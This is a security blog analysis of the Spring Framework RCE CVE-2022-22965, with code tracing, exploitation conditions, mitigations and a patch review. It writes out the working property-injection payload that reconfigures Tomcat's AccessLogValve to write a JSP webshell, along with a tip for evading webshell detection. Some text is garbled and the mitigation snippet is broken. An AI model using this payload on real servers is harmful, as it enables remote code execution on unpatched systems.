in , , , ,

CVE-2022-22965 – 0day RCE in Spring Framework Analysis

Security Analysis of the RCE ‘0-day’ vulnerabilities in Spring Framework

Critical remote code execution (RCE) bugs have been found in the popular Spring framework which is now tracked as CVE-2022-22965. This bug was discovered by codeplutos, meizjm3i of AntGroup FG, and reported to the Spring team (Vmware)

The vulnerability impacts Spring MVC and Spring WebFlux applications running on JDK 9+. The specific exploit requires the application to run on Tomcat as a WAR deployment. If the application is deployed as a Spring Boot executable jar, i.e. the default, it is not vulnerable to the exploit. However, the nature of the vulnerability is more general, and there may be other ways to exploit it.

Vulnerability Detail

The parameter binding function of the Spring MVC framework provides the parameter binding in the request to the member variable of the parameter object in the controller method. The attacker obtains the AccessLogValve object by constructing a malicious request and injects the malicious field value to trigger the pipeline mechanism, which can be written to any path. document.
The short answer is the variable coverage vulnerability caused by parameter binding, which is in the spring-beans package.

Sphere of influenceThese are the requirements for the specific scenario from the report:

  • Running on JDK 9 or higher
  • Apache Tomcat as the Servlet container.
  • Packaged as a traditional WAR (in contrast to a Spring Boot executable jar).
  • spring-webmvc or spring-webflux dependency.
  • Spring Framework versions 5.3.0 to 5.3.17, 5.2.0 to 5.2.19, and older versions.

Vulnerability Analysis

Property Injection Analysis

According to the previous vulnerability analysis (CVE-2010-1622) one of the points is to obtain BeanInfo, located in the CachedIntrospectionResults construction method, the next breakpoint, send the request to break

The previous patch filtered out dangerous attributes such as classLoader.

Tracing the above stack, it is found that the parameter binding classes of the new version and the old version are different, the specific location is as follows,setPropertyValueis also called property injection org\springframework\beans\AbstractNestablePropertyAccessor.class#setPropertyValue Supplement: The AbstractNestablePropertyAccessor class provides the A data structure that supports nested properties

For the understanding of this paragraph, refer to

// 1. Recursively get the beanWrapper where the propertyName property is located, such as Get the info bean where the name property is located
AbstractNestablePropertyAccessor  nestedPa  =  getPropertyAccessorForPropertyPath ( propertyName );
// 2. Get the property token
PropertyTokenHolder  tokens  =  getPropertyNameTokens ( getFinalPath ( nestedPa ,  propertyName ));
// 3. Set property value
nestedPa . setPropertyValue ( tokens ,  new  PropertyValue ( propertyName ,  value ));

getPropertyAccessorForPropertyPath Obtain the wrapper object beanWrapper of the bean according to the property (propertyPath). If it is a nested property like, it needs to be fetched recursively. The method of actually getting the wrapper object ofthe specified property is getNestedPropertyAccessor done. The recursive call that
can be seen getPropertyAccessorForPropertyPath

protected  AbstractNestablePropertyAccessor  getPropertyAccessorForPropertyPath ( String  propertyPath )  {
    // 1. Get the property part before the first dot. eg: returns department
    int  pos  =  PropertyAccessorUtils . getFirstNestedPropertySeparatorIndex ( propertyPath );

    // 2. Recursively process nested properties
    // 2.1 First get the rootBeanWrapper of the class where the director property is located
    // 2.2 Then get the directorBeanWrapper of the class where the info property is located
    // 2.3 And so on, get the infoBeanWrapper of the class where the last property name property is located
    if  ( pos  >  - 1 )  {
        String  nestedProperty  =  propertyPath . substring ( 0 ,  pos );
        String  nestedPath  =  propertyPath . substring ( pos  +  1 );
        AbstractNestablePropertyAccessor  nestedPa  =  getNestedPropertyAccessor ( nestedProperty);
        return  nestedPa . getPropertyAccessorForPropertyPath ( nestedPath );
    // 3. Return the current object directly
    }  else  {
        return  this ;

That is the recursive acquisition of bean properties. For example, in my environment, the outermost BeanWrapperImpl encapsulates UserInfo, and the parameter I pass corresponds to the input parameter class in my controller.

I pass the parameter class.module.classLoader.resources.context.parent.appBase
to get the BeanWrapperImpl corresponding to the class for the first time

this . getNestedPropertyAccessor ( nestedProperty )
    this . getPropertyValue ( tokens )
        this . getLocalPropertyHandler ( actualName )
            this . getCachedIntrospectionResults ( ). getPropertyDescriptor ( propertyName )  // propertyName=class

Utilize chain analysis

In addition to the four basic attributes of UserInfo, there isalso one in the nested attribute (this is after the cache, you can also see it directly in the beanInfo), you can also intuitively see the class expansion and you can see nested attributes like nesting dolls class

class.module.classLoader.resources.context How to use the object to obtain it, the corresponding code is as follows, that is, multiple getter strings together

(( org . apache . catalina . loader . ParallelWebappClassLoader )   new  UserInfo (). getClass (). getModule (). getClassLoader ()). getResources (). getContext ()

What is obtained is the StandardContext, have you seen it in memory? It is logical to further obtain appBase, and finally focus on parent, which is StandardHost class.module.classLoader.resources.context.parent

(( org . apache . catalina . loader . ParallelWebappClassLoader )   new  UserInfo (). getClass (). getModule (). getClassLoader ()). getResources (). getContext (). getParent ()

The public utilization chain is the utilization of AccessLogValue under the pipeline. This class is used to set the log storage parameters, including the path and suffix. The purpose of writing any file can be achieved by modifying the parameters.

AccessLogValue construct

For the properties of AccessLogValue, please refer to the official Tomcat documentation. Modify several properties of AccessLogValue through property injection as follows

class . module . classLoader . resources . context . parent . appBase = ./
class . module . classLoader . resources . context . parent . pipeline . first . pattern =% 25 { Prefix123 }i + 1231231 +% 25 { Suffix123 } i
class .module.classLoader . _ _ _resources . context . parent . pipeline . first . suffix = random1111 . jsp
class . module . classLoader . resources . context . parent . pipeline . first . directory = .
class . module . classLoader . resources . context . parent . pipeline . first . prefix= webapps / ROOT / random1111
class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat = time_fomrat_random111 _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _

Since % is filtered, the pattern is constructed by referencing the header.
PS: Note that every time a new file is written, suffix, prefix and fileDateFormat need to be modified, otherwise the file path will not be modified.
fileDataFormat: The default is .yyyy-MM-dd, try to use only numbers because letters will be parsed and formatted
suffix: as long as there is a suffix
prefix: any
pattern: the format is generally %h %l %u %t “%r “%s %b, so % will be formatted, but the request-header field can be referenced through %{xxx}i, which ensures that any character can be written, and character splicing can be implemented to bypass webshell detection.

%{ xxx } i  request headers information
%{ xxx } o  response headers information
%{ xxx } c  request cookie information
%{ xxx } r  xxx is an attribute of ServletRequest
%{ xxx } s  xxx is an attribute of HttpSession

Analysis of bypass causes

Tested under JDK1.8, there is no module bean under the class bean, which makes it impossible to use it later. If it is class.classLoader, it will be blocked by the blacklist.

I checked that the class corresponding to the module is java.lang.Module, which was introduced by JDK9, and JDK9 introduced the module system. Ref_blacklist judgment logic, beanClass is not Class or attribute name is not (classLoader|protectionDomain), you can satisfy one, and there is no module in jdk8, you can only call it with class.classLoader, and neither of these two conditions are satisfied, resulting in cannot be bypassed.

Class . class  !=  beanClass  ||  ! "classLoader" . equals ( pd . getName ())  &&  ! "protectionDomain" . equals ( pd . getName ())

Why can jdk9 bypass it, because it has an additional module, such as class.module.classLoader, so that the module satisfies the first condition without judging the second condition, thereby bypassing the blacklist.

How to iterate through nested properties

Similar loopholes have occurred in struts2 before. Someone wrote a jsp to traverse to see the details of the code, mainly replace this with Your own model class, which is the input parameter class of the controller method, takes this as astarting point to obtain getter and the effect is as follows, what is the use of other nested properties, you need to explore by yourself.setter

After getting the property value, you can get it through getPropertyAccessorForPropertyPath. The sample code is as follows

BeanWrapperImpl  bw  =  new  BeanWrapperImpl ( this . initarget );
String  propertyName  =  poc  +  "."  +  fieldName ;
Integer  offset  =  propertyName . indexOf ( prefix );
if  ( offset  !=  - 1 )  {
    propertyName  =  propertyName . substring ( offset  +  prefix .length ()) ; }

String  value  =  "" ;
String  type  =  "" ;
try  {
    BeanWrapperImpl  bwl  =  ( BeanWrapperImpl ) invoke ( bw ,  "getPropertyAccessorForPropertyPath" ,  propertyName );
    // TODO: The private propertieshere do not correspond to getters, so they should not be considered beans, by default Or through private property reflection
    Object  v  =  getFieldValue ( bwl . getWrappedInstance (),  fieldName );

    value  =  v . toString ();
    type  =  v . getClass (). getName ();
}  catch  ( Exception   e )  {
    value  =  "" ;

Let’s take a look at the JDK9 springboot, which is different from the classloader of springMVC. Yes AppClassLoader, there is no getResources().
springMVC is ParallelWebappClassLoader Then look at the springMVC of JDK8, as shown below, the protectionDomain is in the blacklist, so even the attribute value cannot be obtained.PS: If the value is not resolved, it means that the property is wrong, not the property of the bean.
Here is the property that prints the setter, not the property that only has the getter.

Conditions of use

So to sum up

  • >=JDK9.
  • springMVC.
  • The request interface corresponds to the controller method.
  • Method input parameters are non-basic classes, not String, int, etc.
  • The request method must correspond to the controller method, otherwise, it cannot be accessed.

Repair/ Mitigtion suggestion

As Spring team has already released the Official patch for CVE-2022-22965, along with the Workarounds section for Apache Tomcat upgrades and Java 8 downgrades.

Temporary solution
(1) WAF protection
On network protection devices such as WAF, according to the traffic situation of the actual deployed business, the rules for strings such as “class. “, “Class. “, ” .class. “, ” .Class. ” are implemented. And after the Ministry of Summer filtering rules, test the business operation to avoid additional impact.

(2) Temporary repair measures Temporary repairs
for leaks need to be performed in the following two steps at the same time:
1. Search the @InitBinder annotation globally in the application to see if the dataBinder.setDisallowedFields method iscalled in the method body. If the introduction of this code fragment is found, In the original blacklist, add {“class. “,”Class. “,” . class. “, ” .Class. “}. (Note: If this code snippet is used a lot, it needs to be appended everywhere)

Create the following global class under the project package of the application system, and ensure that this class is loaded by Spring (it is recommended to add it in the package where the Controller is located).After the class is added, the project needs to be recompiled and packaged and tested for functional verification. and republish the project.

import  org.springframework.core.annotation.Order ;
import  org.springframework.web.bind.WebDataBinder ;import  org.springframework.web.bind.annotation.ControllerAdvice ;
import  org.springframework.web.bind.annotation.InitBinder ;
@Order ( 10000 )
public  class  GlobalControllerAdvice {
 public  void  setAllowedFields ( webdataBinder  dataBinder ){
     String [] abd = new  string []{ "class.*", "Class.*" , "*.class.*" , "*.Class . *" };
     dataBinder .setDisallowedFields ( abd ); } }

Patch Analysis

Refine PropertyDescriptor filtering
The patch is simple when the beanClass is class.Class, only the name property is allowed to be added.
And if the attribute is ClassLoader and ProtectionDomain, it will also be ignored.Reference Docs

Other considerations

The input parameter of the controller method is a non-basic class. For example, if the input parameter is String, parameter binding cannot be triggered.

What do you think?

Written by SH

Leave a ReplyYour email address will not be published. Required fields are marked *

GIPHY App Key not set. Please check settings

An analysis of two new Linux vulnerabilities in nf_tables

Account TakeoverVulnerability in TikTok SMB subdomain.